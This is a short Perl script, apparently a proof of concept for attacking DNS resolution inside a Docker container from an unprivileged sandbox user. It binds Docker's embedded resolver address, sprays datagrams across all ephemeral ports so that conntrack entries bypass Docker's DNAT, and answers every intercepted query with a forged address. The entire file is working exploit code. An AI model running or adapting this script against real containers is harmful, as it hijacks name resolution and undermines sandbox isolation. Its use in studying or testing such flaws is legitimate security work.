# SPDX-License-Identifier: MIT
# The forged-answer attack on the init's DNS, as the sandbox user can run it
# in a container on a user-defined docker network (perl-base is in every
# Debian image): bind 127.0.0.11:53 (Docker sets ip_unprivileged_port_start=0),
# send one datagram from there to 127.0.0.1 on every ephemeral port, so that
# each leaves a conntrack entry whose reply direction the init's next query
# from that port would match, skipping Docker's DNAT; then answer every query
# that arrives with ANSWER. Creates READY when the datagrams are out and
# prints "query NAME" for each query it gets.
#   perl forge-dns.pl ANSWER READY
use strict;
use warnings;
use IO::Socket::INET;
use Socket;

my ($answer, $ready) = @ARGV;
$| = 1;
my $s = IO::Socket::INET->new(Proto => 'udp', LocalAddr => '127.0.0.11', LocalPort => 53)
    or die "bind 127.0.0.11:53: $!\n";
open(my $range, '<', '/proc/sys/net/ipv4/ip_local_port_range') or die "$!\n";
my ($lo, $hi) = split ' ', <$range>;
my ($sent, $refused) = (0, 0);
for my $port ($lo .. $hi) {
    if (defined send($s, "\0" x 12, 0, sockaddr_in($port, inet_aton('127.0.0.1')))) { $sent++ } else { $refused++ }
}
print "sprayed $sent refused $refused\n";
open(my $r, '>', $ready) or die "$!\n";
close $r;
while (1) {
    my $peer = recv($s, my $msg, 4096, 0);
    next unless defined $peer && length($msg) >= 17;
    my ($i, @labels) = (12);
    while ($i < length($msg) && ord(substr($msg, $i, 1)) != 0) {
        my $n = ord(substr($msg, $i, 1));
        push @labels, substr($msg, $i + 1, $n);
        $i += 1 + $n;
    }
    next if $i + 5 > length($msg);
    my $qtype = unpack('n', substr($msg, $i + 1, 2));
    print "query ", join('.', @labels), "\n";
    my $an = $qtype == 1 ? 1 : 0;
    my $reply = substr($msg, 0, 2) . pack('nnnnn', 0x8180, 1, $an, 0, 0) . substr($msg, 12, $i + 5 - 12);
    $reply .= pack('nnnNn', 0xC00C, 1, 1, 60, 4) . inet_aton($answer) if $an;
    send($s, $reply, 0, $peer);
}
